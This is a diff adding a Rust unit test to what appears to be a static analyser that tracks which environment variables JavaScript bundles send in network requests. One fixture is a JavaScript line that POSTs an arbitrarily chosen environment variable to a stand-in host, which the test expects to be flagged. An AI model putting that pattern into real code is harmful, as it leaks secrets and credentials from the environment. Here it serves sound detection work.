@@ -27,6 +27,35 @@ fn proxy_env_sent_with_request_is_not_identity() {
 }
 
 #[test]
+fn env_keys_given_only_constants_are_named_variables() {
+    // A bundle's lazy initialiser assigns the key later (`var K; … K = "QODER_X"`), or a
+    // helper builds it with the build's prefix (`K = envName("CENTER_ENDPOINT")`): one
+    // variable each, not the whole environment (qodercli 1.1.52).
+    for src in [
+        "var K; function endpoint() { return process.env[K]?.trim() || void 0; }
+         var init = () => { K = 'QODER_INSTALL_TELEMETRY_OTLP_ENDPOINT'; };
+         fetch(endpoint(), { method: 'POST' });",
+        "var CN = Math.random() > 2; var PREFIX = CN ? 'QODERCN_' : 'QODER_';
+         function envName(n) { return `${PREFIX}${n}`; }
+         var K = envName('CENTER_ENDPOINT');
+         fetch(process.env[K]?.trim(), { method: 'POST' });",
+    ] {
+        let f = run(src);
+        assert!(f.flows.is_empty(), "{src}\n{:#?}", f.flows);
+    }
+    // A key computed from data still is any name.
+    let any = run("var K = Object.keys(process.env)[3];
+        fetch('https://t.example.com/c', { method: 'POST', body: process.env[K] });");
+    assert!(
+        any.flows
+            .iter()
+            .any(|f| f.kinds.contains(DataKind::WholeEnvironment)),
+        "{:#?}",
+        any.flows
+    );
+}
+
+#[test]
 fn env_read_by_names_from_a_constant_list_is_those_variables() {
     // qwen-code's git helper copies PATH, TEMP, … into a child's environment; the same object
     // later reaches a request only through its URL.
